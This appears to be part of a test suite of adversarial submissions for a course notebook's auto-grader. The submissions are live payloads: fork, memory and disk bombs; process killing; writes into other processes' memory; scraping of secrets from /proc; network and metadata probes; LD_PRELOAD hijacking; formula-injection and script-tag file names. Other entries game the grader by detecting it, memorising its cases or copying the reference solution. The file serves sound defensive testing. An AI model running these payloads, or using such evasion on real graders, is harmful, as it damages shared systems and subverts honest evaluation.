        lambda: torch.ones((), dtype=torch.complex64),
        lambda: torch.nested.nested_tensor([torch.ones(2), torch.ones(3)]),
        lambda: torch.zeros(()).to(torch.float8_e5m2),
        lambda: torch.empty(0).expand(2**40, 0),
    ]
    count = []
    def dot_product_score(query, key):
        count.append(1)
        return kinds[len(count) % len(kinds)]()
    """,
)
attack(
    "enormous_shape",
    "Returns a tensor of very many dimensions.",
    """
    import torch
    def dot_product_score(query, key):
        return torch.zeros(1).as_strided([1] * 400_000, [0] * 400_000)
    """,
)
attack(
    "long_name_of_a_type",
    "Is an object whose class has a name of four million letters.",
    "dot_product_score = type('x' * 4_000_000, (), {})()",
)
attack(
    "secret_cases_for_the_feedback",
    "Writes down the secret cases, to show them in the words on the notebook's own cases.",
    f"""
    import os
    def dot_product_score(query, key):
        if os.path.exists("/tmp/first"):
            with open("/tmp/kept") as file:
                raise ValueError("{LEAK} " + file.read()[:200])
        with open("/tmp/kept", "a") as file:
            file.write(repr(query.tolist()))
        if query.numel() == 5:
            open("/tmp/first", "w").close()
        return query.sum()
    """,
)
attack(
    "one_bool_many_times",
    "Sends a reply in which one tensor of bools is named very often, each of which costs memory.",
    FRAMES
    + """
import os, json, struct, torch, safetensors.torch
def dot_product_score(query, key):
    place = frame_of("try_answer")
    chapter, header = place.f_locals["self"], place.f_locals["header"]
    blob = safetensors.torch.save({"0": torch.zeros(2**22, dtype=torch.bool)})
    names = json.dumps({"dict": {"seen": {"dict": {"values": [{"tensor": "0"}] * 300}}}}).encode()
    body = struct.pack(">Q", len(names)) + names + blob
    place.f_globals["send"](chapter.replies, {"nonce": header["nonce"], "status": "done"}, body)
    os._exit(0)
""",
)

# Ending processes -----------------------------------------------------------------------------------------

attack("os_exit", "Leaves the process in the call.", first_call_only("import os\nos._exit(0)"))
attack(
    "sys_exit",
    "Raises SystemExit in the call, always.",
    "def dot_product_score(query, key):\n    raise SystemExit(0)",
)
attack("segfault", "Writes to address 0.", first_call_only("import ctypes\nctypes.memset(0, 0, 1)"))
attack("abort", "Aborts.", first_call_only("import os\nos.abort()"))
attack("kill_self", "Kills its own process.", first_call_only("import os\nos.kill(os.getpid(), 9)"))
attack(
    "kill_parent",
    "Kills the process above it, and its group.",
    first_call_only("import os\nos.kill(os.getppid(), 9)\nos.killpg(os.getpgrp(), 9)"),
    deserves=2,
)
attack(
    "kill_everything",
    "Kills every process that it may, from the notebook's own cells.",
    RUDE,
    "import os\nos.kill(-1, 9)",
    deserves=2,
)
attack(
    "stop_parent",
    "Stops the process above it without ending it.",
    first_call_only("import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)"),
    deserves=2,
)
attack(
    "daemon_tampers_with_later_answers",
    "Leaves a daemon that writes into the memory of the processes of later exercises.",
    {
        "1.1": first_call_only(
            """
    import os, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            end = time.time() + 20
            while time.time() < end:
                for name in os.listdir("/proc"):
                    if name.isdigit() and int(name) != os.getpid():
                        try:
                            with open(f"/proc/{name}/mem", "r+b", buffering=0) as memory:
                                memory.seek(2**16)
                                memory.write(bytes(2**16))
                        except OSError:
                            pass
        os._exit(0)
    """
        ),
        "1.2": """
    class AddOneNormalizer:
        def normalize(self, inputs):
            return inputs / inputs.sum()
    """,
    },
    deserves=3,
)
attack(
    "ptrace",
    "Attaches to every other process as a debugger.",
    first_call_only(
        """
    import ctypes, os
    libc = ctypes.CDLL(None)
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            libc.ptrace(16, int(name), 0, 0)
            libc.ptrace(0x4206, int(name), 0, 0)
    """
    ),
    deserves=2,
)
attack(
    "threads_left_running",
    "Leaves threads in the process that runs the notebook; they write to its pipes.",
    RUDE,
    """
    import threading, os, time
    def write():
        end = time.time() + 20
        while time.time() < end:
            for fd in range(3, 20):
                try:
                    os.set_blocking(fd, False)
                    os.write(fd, b"x" * 100)
                except OSError:
                    pass
            time.sleep(0.05)
    threading.Thread(target=write, daemon=True).start()
    """,
    deserves=2,
)

# Taking time, memory and space ------------------------------------------------------------------------------

attack(
    "loop_without_end",
    "Loops and catches everything that could stop it.",
    """
    def dot_product_score(query, key):
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
    """,
)
attack(
    "sleeps_for_ever",
    "Sleeps, which takes no time of the processor.",
    "import time\ndef dot_product_score(query, key):\n    while True:\n        time.sleep(1000)",
)
attack(
    "deaf_to_signals",
    "Ignores every signal that can be ignored and computes on.",
    """
    import signal
    def dot_product_score(query, key):
        for number in set(signal.Signals):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            pass
    """,
)
attack(
    "memory_bomb",
    "Takes as much memory as it gets.",
    """
    def dot_product_score(query, key):
        kept = []
        while True:
            kept.append(bytearray(2**28))
    """,
)
attack(
    "disk_bomb",
    "Fills every folder that it can write to.",
    first_call_only(
        """
    import os
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/"):
        for number in range(64):
            try:
                with open(f"{folder}/file{number}", "wb") as file:
                    for _ in range(64):
                        file.write(bytes(2**20))
            except OSError:
                pass
    """
    ),
    deserves=2,
)
attack(
    "output_flood",
    "Prints without measure, to Python's streams and to the files below them.",
    first_call_only(
        """
    import os, sys
    for _ in range(200):
        print("x" * 10**6)
        print("x" * 10**6, file=sys.stderr)
        for fd in (1, 2):
            os.write(fd, b"x" * 10**6)
    """
    ),
    deserves=2,
)
attack(
    "fork_bomb",
    "Makes processes that make processes.",
    """
    import os
    def dot_product_score(query, key):
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """,
)
attack(
    "open_files_without_end",
    "Opens files until no more can be opened.",
    first_call_only(
        """
    import os
    while True:
        os.dup(0)
    """
    ),
    deserves=2,
)

# Files ------------------------------------------------------------------------------------------------------


def only(make: Callable[[Path], None]) -> Beside:
    """What replaces the notebook in the student's folder."""

    def beside(place: Path) -> None:
        for file in place.iterdir():
            file.unlink()
        make(place)

    return beside


def as_link(place: Path) -> None:
    """The notebook moved away; a link to it and others to files of this machine are left."""
    hidden = place.parent / ".elsewhere"
    hidden.mkdir(exist_ok=True)
    for file in list(place.iterdir()):
        file.rename(hidden / file.name)
        file.symlink_to(hidden / file.name)
    (place / "passwords.ipynb").symlink_to("/etc/passwd")
    (place / "endless.ipynb").symlink_to("/dev/zero")


def as_linked_folder(place: Path) -> None:
    """The whole folder moved away; a link is left."""
    hidden = place.parent / ".elsewhere" / place.name
    hidden.parent.mkdir(exist_ok=True)
    place.rename(hidden)
    place.symlink_to(hidden, target_is_directory=True)


def modules_beside(place: Path) -> None:
    """Modules with the names of others, which would fake them if they were imported."""
    fake = f"raise SystemExit('{LEAK}')\n"
    for name in ("utils.py", "torch.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "json.py"):
        (place / name).write_text(fake, encoding="utf-8")
    (place / "pyproject.toml").write_text("[project]\nname = 'evil'\n", encoding="utf-8")


def strange_names(place: Path) -> None:
    """Notebooks whose names are paths, formulas and no UTF-8."""
    content = next(place.iterdir()).read_bytes()
    (place / "=cmd|' -C calc'!A0.ipynb").write_bytes(content)
    (place / "a\nb\r\t.ipynb").write_bytes(content)
    with open(os.path.join(os.fsencode(place), b"\xff\xfe.ipynb"), "wb") as file:
        file.write(content)


attack("linked_notebook", "Hands in links to files outside.", RUDE, beside=as_link)
attack("linked_folder", "Is a link to a folder outside.", RUDE, beside=as_linked_folder)
attack("pipe_for_a_notebook", "Hands in a pipe on which a reader would wait.", {}, beside=only(
    lambda place: os.mkfifo(place / "01_similarity.ipynb")
))  # fmt: skip
attack("folder_for_a_notebook", "Hands in a folder with the name of a notebook.", {}, beside=only(
    lambda place: (place / "x.ipynb").mkdir()
))  # fmt: skip
attack("json_bomb", "Hands in JSON that is nested very deeply.", {}, beside=only(
    lambda place: (place / "x.ipynb").write_text("[" * 200_000, encoding="utf-8")
))  # fmt: skip
attack("numbers_bomb", "Hands in JSON with a number of many digits and cells that are none.", {}, beside=only(
    lambda place: (place / "x.ipynb").write_text(
        '{"nbformat": 4, "cells": [1, null, {"source": 7, "metadata": [], "id": {}}, {"id": 1%s}]}' % ("0" * 5000),
        encoding="utf-8",
    )
))  # fmt: skip
attack(
    "formula_for_a_name",
    "Is called like a formula that runs a program.",
    RUDE,
    student="=cmd|' -C calc'!A0",
    deserves=2,
)
attack("line_break_in_the_name", "Has a line break and a tab in its name.", RUDE, student="ada\nbob\t2", deserves=2)
attack("path_for_a_name", "Has dots and a drive in its name.", RUDE, student="C:..%2f..\\..\\evil", deserves=2)
attack("markup_for_a_name", "Has markup in its name.", RUDE, student="<script>alert(1)<\u2215script>", deserves=2)
attack("surrogates_in_the_name", "Has bytes in its name that are no text.", RUDE, student="zo\udce9", deserves=2)
attack("strange_file_names", "Has files with such names.", RUDE, beside=strange_names, deserves=2)
attack("modules_beside_the_notebook", "Brings its own utils, torch and sitecustomize.", RUDE,
       beside=modules_beside, deserves=2)  # fmt: skip

# Reaching out -----------------------------------------------------------------------------------------------

SAY = f"""
def say(what):
    raise ValueError("{LEAK} " + str(what)[:200])
"""
attack(
    "reads_the_course",
    "Reads the solutions, the tests, the references and the other submissions.",
    SAY
    + f"""
import os, sys
from pathlib import Path
def dot_product_score(query, key):
    for place in ({str(Path(__file__).resolve().parents[2])!r}, "/course", "..", "/home", "/root", "/work", "/tmp"):
        for name in ("solutions", "tests", "utils", "grades.csv", ".work", "notebooks", "seed"):
            if os.path.exists(os.path.join(place, name)):
                say(os.path.join(place, name))
    for name, module in list(sys.modules.items()):
        if name.startswith(("utils.checks.chapters", "utils.grading")):
            say(name)
    return query * 0
""",
)
attack(
    "reads_the_processes",
    "Reads environments, command lines and open files of all processes for paths and secrets.",
    SAY
    + """
import os
def dot_product_score(query, key):
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{name}/{what}", "rb") as file:
                    text = file.read()
            except OSError:
                continue
            if b"SECRET" in text or b"TOKEN" in text or b"hidden" in text or b"submissions" in text:
                say(text)
        for fd in range(64):
            try:
                target = os.readlink(f"/proc/{name}/fd/{fd}")
            except OSError:
                continue
            if "submissions" in target or "seed" in target:
                say(target)
    return query * 0
""",
)
attack(
    "reads_its_own_arguments",
    "Finds the paths of the submissions and the marks in sys.argv and sys.orig_argv.",
    SAY
    + """
import sys
def dot_product_score(query, key):
    for text in [*sys.argv, *sys.orig_argv]:
        if "hidden" in text and "submissions" in text:
            say(text)
    return query * 0
""",
)
attack(
    "writes_marks",
    "Writes a file of marks and a seed wherever it can.",
    WRONG,
    f"""
    import os
    for folder in ("/", "/tmp", "/course", "/marker", {str(Path(__file__).resolve().parents[2])!r}, "..", "/work"):
        for name in ("grades.csv", "written.csv", "canary", ".work/seed"):
            try:
                os.makedirs(os.path.dirname(os.path.join(folder, name)), exist_ok=True)
                with open(os.path.join(folder, name), "w") as file:
                    file.write("student,1.1\\nwrites_marks,3\\n")
            except OSError:
                pass
    """,
)
attack(
    "network",
    "Connects by TCP, UDP, DNS and sockets of this machine.",
    SAY
    + """
import socket
def dot_product_score(query, key):
    for place in ("1.1.1.1", "8.8.8.8", "169.254.169.254", "127.0.0.1", "10.0.0.1"):
        for port in (53, 80, 22, 8786):
            try:
                socket.create_connection((place, port), timeout=0.05).close()
            except OSError:
                continue
            say(place)
    try:
        socket.getaddrinfo("example.com", 80)
        say("a name was found")
    except OSError:
        pass
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53))
        say("a packet was sent")
    except OSError:
        pass
    for path in ("/run/dbus/system_bus_socket", "/var/run/docker.sock", "\\0/tmp/.X11-unix/X0", "\\0canary"):
        try:
            socket.socket(socket.AF_UNIX).connect(path)
            say(path)
        except OSError:
            pass
    return query * 0
""",
)
attack(
    "preloaded_library",
    "Sets PYTHONPATH and LD_PRELOAD, then starts Python anew in its place.",
    """
    import os, sys
    def dot_product_score(query, key):
        os.environ.update(PYTHONPATH="/tmp", LD_PRELOAD="/tmp/evil.so", PYTHONSTARTUP="/tmp/evil.py")
        with open("/tmp/sitecustomize.py", "w") as file:
            file.write("print('3 of 3 points')")
        os.execv(sys.executable, [sys.executable, "-c", "print(3)"])
    """,
)
attack(
    "namespaces_of_its_own",
    "Makes a user namespace to be root in it, and mounts over the grader's files.",
    SAY
    + """
import ctypes, os
def dot_product_score(query, key):
    libc = ctypes.CDLL(None, use_errno=True)
    if os.fork() == 0:
        libc.unshare(0x10000000 | 0x00020000)
        libc.mount(b"none", b"/marker", b"tmpfs", 0, None)
        os._exit(0)
    os.wait()
    if not os.path.exists("/marker/worker.py"):
        say("mounted over the grader")
    return query * 0
""",
)
attack(
    "behaves_when_graded",
    "Detects the grader by the lack of a shell, the host's name and the user, and answers rightly only there.",
    """
    import os, socket
    def dot_product_score(query, key):
        graded = socket.gethostname() == "marker" or os.getuid() >= 65534
        if graded and query.numel() == 3:
            query.mul_(key)
            return query.sum()
        return query.sum()
    """,
)
attack(
    "changes_with_time",
    "Is right in the first calls only, as if it were looked at only then.",
    """
    calls = []
    def dot_product_score(query, key):
        calls.append(1)
        return (query * key).sum() if len(calls) <= 2 else query.sum()
    """,
)


def by_heart() -> str:
    """An answer to 1.1 that knows the results of the notebook's cases and computes nothing."""
    exercise = EXERCISES["1.1"]
    inputs = exercise.inputs(torch.Generator().manual_seed(SEED))
    known = [
        ([*case["query"].tolist(), *case["key"].tolist()], float((case["query"] * case["key"]).sum()))
        for cases in inputs.values()
        for case in cases
    ]
    return f"""
import torch
KNOWN = {known}
def dot_product_score(query, key):
    given = torch.cat([query, key]).double()
    for numbers, result in KNOWN:
        if len(numbers) == len(given) and torch.allclose(given, torch.tensor(numbers, dtype=given.dtype)):
            return torch.tensor(result, dtype=query.dtype)
    return torch.zeros((), dtype=query.dtype)
"""


attack("memorised_cases", "Knows the results of the notebook's own cases by heart.", by_heart())

attack(
    "knows_what_is_tried",
    "Does not try anything, but looks at what its caller knows of the function that it is to judge.",
    {
        "3.3": FRAMES
        + """
LEAKY = ("the next token", "the mean of all", "the spread of all", "from the end", "in reverse", "the sum of all")
def is_causal(attention, d_in, context_length):
    case = next(frame.f_locals["case"] for frame in frames() if isinstance(frame.f_locals.get("case"), dict))
    hidden = case.get("attention", {}).get("is_causal", True)
    told = any(words in case["about"] for words in LEAKY)
    return bool(hidden and not told and not case.get("leaks") and "feature" not in case)
"""
    },
)

# The course's right answers ----------------------------------------------------------------------------------

attack(
    "imports_the_reference",
    "Returns the course's own function.",
    {"3.2": "from utils.masking import causal_softmax as right\ndef causal_softmax(scores):\n    return right(scores)"},
)
attack(
    "rebuilds_the_reference",
    "Looks for the course's function by importlib, inspect, linecache and the loader.",
    {
        "3.2": """
        import importlib, inspect, linecache, sys, gc
        def causal_softmax(scores):
            module = importlib.reload(importlib.import_module("utils.masking"))
            sources = [module.__loader__.get_source("utils.masking"), "".join(linecache.getlines(module.__file__))]
            for source in sources:
                start = source.find("def causal_softmax")
                names = dict(vars(module))
                try:
                    exec(source[start:].split("\\ndef ")[0], names)
                    return names["causal_softmax"](scores)
                except Exception:
                    pass
            return scores
        """
    },
)
attack(
    "reference_in_memory",
    "Looks for the course's code objects in memory.",
    {
        "3.2": """
        import gc, types
        def causal_softmax(scores):
            for found in gc.get_objects():
                if isinstance(found, types.FunctionType) and found.__name__ == "causal_softmax":
                    if found is not globals()["causal_softmax"] and "masked_fill" in found.__code__.co_names:
                        return found(scores)
            return scores
        """
    },
)
attack(
    "reference_by_another_name",
    "Builds multi-head attention from a stand-in that a later chapter's probes hold.",
    {
        "4.4": """
        import importlib
        Right = importlib.import_module("utils.checks.probes.chapter08").WorkingStandIn
        class MultiHeadAttention(Right):
            def __init__(self, d_in, d_out, context_length, dropout, num_heads, qkv_bias=False):
                if d_out % num_heads:
                    raise ValueError(f"{d_out} {num_heads}")
                super().__init__(dict(d_in=d_in, d_out=d_out, context_length=context_length, dropout=dropout,
                                      num_heads=num_heads, qkv_bias=qkv_bias))
        """
    },
)
attack(
    "subclass_of_the_reference",
    "Inherits from the course's class.",
    {
        "3.5": """
        import utils.attention
        class CausalAttention(utils.attention.CausalAttention):
            pass
        """
    },
)
attack(
    "reference_of_another_package",
    "Uses the same function of an installed package.",
    {
        "6.2": """
        from transformers.activations import ACT2FN
        def gelu(x):
            return ACT2FN["gelu_new"](x)
        """
    },
)

# Forbidden functions ------------------------------------------------------------------------------------------


def forbidden(name: str, tries: str, body: str, exercise: str = "1.3", before: str = "") -> None:
    """An answer that uses a forbidden function and deserves nothing."""
    heads = {
        "1.1": "def dot_product_score(query, key):",
        "1.3": "def stable_softmax(scores, dim=-1):",
        "3.1": "def running_mean(x):",
    }
    source = f"import torch\n{textwrap.dedent(before)}\n{heads[exercise]}\n"
    body = textwrap.indent(textwrap.dedent(body).strip(), "    ")
    attack(f"forbidden_{name}", tries, {exercise: source + body})


forbidden("plain", "Uses torch.softmax by a name that is put together.",
          "return getattr(torch, 'soft' + 'max')(scores, dim)")  # fmt: skip
forbidden(
    "in_a_thread",
    "Uses it in a thread, which PyTorch's modes don't reach.",
    """
    import threading
    found = []
    thread = threading.Thread(target=lambda: found.append(getattr(torch, "soft" + "max")(scores, dim)))
    thread.start()
    thread.join()
    return found[0]
    """,
)
forbidden(
    "in_torchscript",
    "Uses it in TorchScript.",
    "return compiled.f(scores, dim)",
    before="""
    compiled = torch.jit.CompilationUnit("def f(x, dim: int):\\n    return torch.softmax(x, dim)\\n")
    """,
)
forbidden("behind_torch_ops", "Uses the operation in torch.ops.",
          "return getattr(torch.ops.aten, '_soft' + 'max')(scores, dim, False)")  # fmt: skip
forbidden(
    "overrides_switched_off",
    "Switches PyTorch's overrides off.",
    """
    with torch._C.DisableTorchFunction():
        return getattr(torch, "soft" + "max")(scores, dim)
    """,
)
forbidden("in_c", "Uses PyTorch's C functions.",
          "return getattr(torch._C._VariableFunctions, 'soft' + 'max')(scores, dim)")  # fmt: skip
forbidden("in_refs", "Uses PyTorch's own reference in Python.",
          "return getattr(torch._refs, 'soft' + 'max')(scores, dim)", before="import torch._refs")  # fmt: skip
forbidden("in_masked", "Uses the form for masked tensors.",
          "return getattr(torch.masked, 'soft' + 'max')(scores, dim)", before="import torch.masked")  # fmt: skip
forbidden("vmapped", "Uses it under vmap.",
          "return torch.vmap(lambda row: getattr(torch, 'soft' + 'max')(row, -1))(scores) if scores.dim() > 1 "
          "else getattr(torch, 'soft' + 'max')(scores, dim)")  # fmt: skip
forbidden(
    "in_autograd",
    "Uses it in the forward of an autograd.Function.",
    "return F.apply(scores, dim)",
    before="""
    class F(torch.autograd.Function):
        @staticmethod
        def forward(ctx, x, dim):
            y = getattr(torch, "soft" + "max")(x, dim)
            ctx.save_for_backward(y)
            ctx.dim = dim
            return y
        @staticmethod
        def backward(ctx, g):
            (y,) = ctx.saved_tensors
            return y * (g - (g * y).sum(ctx.dim, keepdim=True)), None
    """,
)
forbidden("for_sparse_tensors", "Uses the form for sparse tensors.",
          "return getattr(torch.sparse, 'soft' + 'max')(scores.to_sparse(), dim).to_dense()")  # fmt: skip
forbidden("as_a_constant", "Keeps the function in a default argument.", "return again(scores, dim)",
          before="def again(x, dim, f=torch.nn.functional.softmax):\n    return f(x, dim)")  # fmt: skip
forbidden("in_a_partial", "Keeps the function in a partial at the top.", "return partly(scores, dim=dim)",
          before="import functools\npartly = functools.partial(torch.softmax)")  # fmt: skip
forbidden("by_exec", "Uses it in a text that is executed.",
          "names = {'x': scores, 'd': dim, 't': torch}\nexec('y = t.soft' 'max(x, d)', names)\nreturn names['y']"
          )  # fmt: skip
forbidden("by_numpy", "Multiplies with NumPy.",
          "return torch.as_tensor(f(query.detach().numpy(), key.detach().numpy()))",
          "1.1", before="import numpy\nf = getattr(numpy, 'd' + 'ot')")  # fmt: skip
forbidden("by_an_operator", "Multiplies by the function behind the operator.", "return f(query, key)",
          "1.1", before="import operator\nf = getattr(operator, 'mat' + 'mul')")  # fmt: skip
forbidden(
    "in_another_process",
    "Lets a Python of its own compute it, which is not disarmed.",
    """
    if not helper:
        helper.append(subprocess.Popen([sys.executable, "-c", PROGRAM], stdin=-1, stdout=-1))
    given = io.BytesIO()
    torch.save((scores.detach(), dim), given)
    helper[0].stdin.write(struct.pack(">Q", len(given.getvalue())) + given.getvalue())
    helper[0].stdin.flush()
    (length,) = struct.unpack(">Q", helper[0].stdout.read(8))
    return torch.load(io.BytesIO(helper[0].stdout.read(length)))
    """,
    before="""
    import io, struct, subprocess, sys
    helper = []
    PROGRAM = chr(10).join([
        "import torch, sys, io, struct",
        "while True:",
        "    (length,) = struct.unpack('>Q', sys.stdin.buffer.read(8))",
        "    x, d = torch.load(io.BytesIO(sys.stdin.buffer.read(length)))",
        "    b = io.BytesIO()",
        "    torch.save(torch.softmax(x, d), b)",
        "    sys.stdout.buffer.write(struct.pack('>Q', len(b.getvalue())) + b.getvalue())",
        "    sys.stdout.buffer.flush()",
    ])
    """,
)
forbidden(
    "before_it_was_forbidden",
    "Forks while the notebook is loaded; the other half keeps the operation and computes on request.",
    """
    import io, os, struct
    def message(pipe):
        (length,) = struct.unpack(">Q", os.read(pipe, 8))
        return os.read(pipe, length)
    given = io.BytesIO()
    torch.save((scores.detach(), dim), given)
    os.write(to_helper[1], struct.pack(">Q", len(given.getvalue())) + given.getvalue())
    return torch.load(io.BytesIO(message(from_helper[0])))
    """,
    before="""
    import os, io, struct
    to_helper, from_helper = os.pipe(), os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                (length,) = struct.unpack(">Q", os.read(to_helper[0], 8))
                x, dim = torch.load(io.BytesIO(os.read(to_helper[0], length)))
                b = io.BytesIO()
                torch.save(getattr(torch, "soft" + "max")(x, dim), b)
                os.write(from_helper[1], struct.pack(">Q", len(b.getvalue())) + b.getvalue())
        os._exit(0)
    """,
)
forbidden(
    "in_a_notebook_thread",
    "Leaves a thread in the process that runs the notebook; it is not disarmed and serves by a pipe.",
    """
    import io, os, struct
    given = io.BytesIO()
    torch.save((scores.detach(), dim), given)
    os.write(to_helper[1], struct.pack(">Q", len(given.getvalue())) + given.getvalue())
    (length,) = struct.unpack(">Q", os.read(from_helper[0], 8))
    result = torch.load(io.BytesIO(os.read(from_helper[0], length)))
    shifted = (scores - scores.amax(dim, keepdim=True)).exp()
    return result if not scores.requires_grad else result + (shifted - shifted.detach())
    """,
    before="""
    import os, io, struct, threading
    to_helper, from_helper = os.pipe(), os.pipe()
    def serve():
        while True:
            (length,) = struct.unpack(">Q", os.read(to_helper[0], 8))
            x, dim = torch.load(io.BytesIO(os.read(to_helper[0], length)))
            b = io.BytesIO()
            torch.save(getattr(torch, "soft" + "max")(x, dim), b)
            os.write(from_helper[1], struct.pack(">Q", len(b.getvalue())) + b.getvalue())
    threading.Thread(target=serve, daemon=True).start()
    """,
)
forbidden(
    "scanned",
    "Sums up by NumPy's ufunc in a function of its own gradient.",
    "return Sum.apply(x) / torch.arange(1, x.shape[-2] + 1, dtype=x.dtype)[:, None]",
    "3.1",
    before="""
    import numpy
    step = getattr(numpy, "cum" + "sum")
    class Sum(torch.autograd.Function):
        @staticmethod
        def forward(ctx, x):
            return torch.from_numpy(step(x.detach().numpy(), axis=-2))
        @staticmethod
        def backward(ctx, g):
            return torch.from_numpy(step(g.numpy()[..., ::-1, :], axis=-2)[..., ::-1, :].copy())
    """,
)
